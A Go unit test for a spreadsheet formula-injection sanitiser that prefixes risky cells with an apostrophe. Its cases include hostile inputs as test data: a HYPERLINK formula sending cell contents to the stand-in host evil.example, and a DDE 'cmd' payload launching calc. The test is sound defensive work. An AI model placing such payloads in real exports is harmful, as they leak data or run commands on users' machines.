package api

import "testing"

// formulaSafe prefixes exactly the cells DESIGN §7.1 names: those starting
// with =, +, -, @, a tab or a CR.
func TestFormulaSafe(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"-1+1", "'-1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"Nguyễn Văn An", "Nguyễn Văn An"},
		{"An =1", "An =1"},
		{"'=1", "'=1"}, // already text in a spreadsheet
		{"", ""},
	}
	for _, tc := range cases {
		if got := formulaSafe(tc.in); got != tc.want {
			t.Errorf("formulaSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
